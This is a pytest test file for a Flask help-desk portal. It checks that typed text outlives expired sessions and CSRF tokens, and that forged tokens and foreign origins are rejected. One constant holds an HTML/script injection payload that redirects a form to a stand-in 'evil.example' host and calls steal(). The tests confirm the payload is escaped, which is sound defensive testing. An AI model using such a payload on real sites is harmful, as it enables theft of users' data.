"""What was typed is not lost: not when the session ended, nor when the form's token is over."""

import re
from html import unescape

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from app.database import db
from app.http import keeping
from app.tickets.conversation import MAX_BODY
from app.tickets.models import Message, Ticket
from tests import factories
from tests.cast import NOW, PASSWORD, Cast, sign_in
from tests.portal.test_asking import WORDS
from tests.portal.test_new_requests import FILLED, URL, once_of
from tests.security.pages import token_in

HERE = {"Origin": "http://localhost"}
SIGNED_OUT = "You are signed out, and this was not sent."
ATTACK = '</textarea></form><form action="//evil.example"><script>steal()</script>'


@pytest.fixture
def ticket(cast: Cast) -> Ticket:
    return factories.open_request(cast.elke, cast.vpn_problem, at=NOW)


def count(kind: type) -> int:
    db.session.rollback()
    return db.session.scalar(select(func.count()).select_from(kind)) or 0


def hidden(page: str) -> dict[str, str]:
    """The hidden fields of a page's forms, the first of each name, and what is kept in areas."""
    inputs = re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', page)
    areas = re.findall(r'<textarea hidden name="([^"]+)">\n(.*?)</textarea>', page, re.DOTALL)
    return {name: unescape(value) for name, value in reversed(inputs + areas)}


def come_back(client: FlaskClient, cast: Cast, page: str, **other: str):
    """Sign in on the page that asks for it."""
    known = {"address": cast.elke.address, "password": PASSWORD}
    return client.post("/sign-in", data=hidden(page) | known | other)


def go_on(client: FlaskClient, page: str, **headers: str):
    found = re.search(r'action="([^"#]+)#end"', page)
    assert found
    return client.post(found[1], data=hidden(page), headers=headers)


def test_a_new_request_outlives_the_session(client: FlaskClient, cast: Cast):
    sign_in(client, cast.elke)
    filled = FILLED | {"once": once_of(client.get(URL).text), "body": f"Two\nlines, {ATTACK}"}
    client.post("/sign-out")

    door = client.post(URL, data=filled)
    kept = come_back(client, cast, door.text)
    form = go_on(client, kept.text)
    sent = client.post(URL, data=filled)

    assert door.status_code == 403
    assert SIGNED_OUT in door.text
    assert "gateway did not answer" in kept.text
    assert "<script>" not in door.text + kept.text + form.text
    assert 'action="//evil' not in door.text + kept.text + form.text
    assert unescape(form.text).count(filled["body"]) == 1
    assert f'value="{FILLED["choice"]}" data-priority="high" checked' in form.text
    assert f'name="once" value="{filled["once"]}"' in form.text
    assert "If you send this now" in form.text
    assert sent.status_code == 303
    assert count(Ticket) == 1


@pytest.mark.parametrize("deed", ["messages", "closing"])
def test_an_answer_outlives_the_session(client: FlaskClient, cast: Cast, ticket: Ticket, deed: str):
    said = count(Message)
    url = f"/portal/requests/{ticket.id}"
    door = client.post(f"{url}/{deed}", data={"body": "Still the same.", "file": "7"})
    wrong = come_back(client, cast, door.text, password="wrong")
    kept = come_back(client, cast, wrong.text)
    page = go_on(client, kept.text)

    assert "Files were not kept" in door.text
    assert SIGNED_OUT in wrong.text
    assert page.status_code == 200
    assert "\nStill the same.</textarea>" in page.text
    assert "<title>Error" not in page.text
    assert count(Message) == said


def test_a_copy_and_a_rating_outlive_it_too(client: FlaskClient, cast: Cast, ticket: Ticket):
    url = f"/portal/requests/{ticket.id}"
    door = client.post(f"{url}/copies", data={"address": "martin.voss@brenner-voss.example"})
    page = go_on(client, come_back(client, cast, door.text).text)

    assert hidden(door.text)["next"] == url
    assert 'value="martin.voss@brenner-voss.example"' in page.text
    assert "martin.voss@brenner-voss.example" not in client.get(url).text


def test_where_nothing_was_typed_the_door_leads_back_to_the_form(
    client: FlaskClient, cast: Cast, ticket: Ticket
):
    url = f"/portal/requests/{ticket.id}"

    answer = client.post(f"{url}/messages", data={"body": "", "once": "x"})

    assert answer.location == f"/sign-in?next=%2Fportal%2Frequests%2F{ticket.id}"
    assert client.post("/portal/requests/1/muting", data={"body": "x"}).location == "/sign-in"


def test_what_we_did_not_sign_is_nobodys_form(client: FlaskClient, cast: Cast, ticket: Ticket):
    door = client.post(f"/portal/requests/{ticket.id}/messages", data={"body": "Mine."})
    token = hidden(door.text)["kept"]
    for wrong in (token[:-1], f"x{token}", "x", "", "²", "a" * keeping.MOST):
        answer = come_back(client, cast, door.text, kept=wrong)
        assert answer.location == f"/portal/requests/{ticket.id}"


def test_the_longest_text_is_kept_and_what_no_form_holds_is_not(
    client: FlaskClient, cast: Cast, ticket: Ticket
):
    url = f"/portal/requests/{ticket.id}/messages"
    longest = "".join(chr(0x4E00 + number * 7919 % 20_000) for number in range(MAX_BODY))
    door = client.post(url, data={"body": longest})

    assert longest in come_back(client, cast, door.text).text
    client.post("/sign-out")
    assert client.post(url, data={"body": longest * 6}).status_code == 302


def test_a_form_whose_token_is_over_brings_back_what_it_holds(
    app: Flask, client: FlaskClient, cast: Cast
):
    sign_in(client, cast.elke)
    app.config["WTF_CSRF_ENABLED"] = True
    here = client.post(URL, data=FILLED | {"once": "of the tests"}, headers=HERE)
    form = go_on(client, here.text, **HERE)

    assert here.status_code == 400
    assert FILLED["body"] in here.text
    assert hidden(here.text)["csrf_token"] == token_in(here.text)
    assert form.status_code == 200
    assert FILLED["body"] in form.text
    assert count(Ticket) == 0


def test_a_form_whose_session_and_token_are_over_leads_over_the_door(
    app: Flask, client: FlaskClient, cast: Cast
):
    app.config["WTF_CSRF_ENABLED"] = True
    door = client.post(URL, data=FILLED, headers=HERE)
    kept = come_back(client, cast, door.text)

    assert door.status_code == 400
    assert SIGNED_OUT in door.text
    assert FILLED["body"] in go_on(client, kept.text).text
    assert count(Ticket) == 0


def test_without_an_account_it_comes_back_as_well(app: Flask, client: FlaskClient, cast: Cast):
    app.config["WTF_CSRF_ENABLED"] = True
    here = client.post("/ask/vpn", data=WORDS, headers=HERE)
    form = go_on(client, here.text)

    assert here.status_code == 400
    assert f'value="{WORDS["address"]}"' in form.text
    assert f'name="once" value="{WORDS["once"]}"' in form.text


@pytest.mark.parametrize("origin", [None, "null", "https://evil.example", "http://localhost:81"])
def test_another_site_shows_nobody_its_words_in_ours(
    app: Flask, client: FlaskClient, cast: Cast, origin: str | None
):
    sign_in(client, cast.elke)
    app.config["WTF_CSRF_ENABLED"] = True

    answer = client.post(URL, data=FILLED, headers={"Origin": origin} if origin else {})

    assert answer.status_code == 400
    assert FILLED["body"] not in answer.text
    assert "Nothing was sent, and nothing was changed." in answer.text
    assert "what you typed is still there." not in answer.text
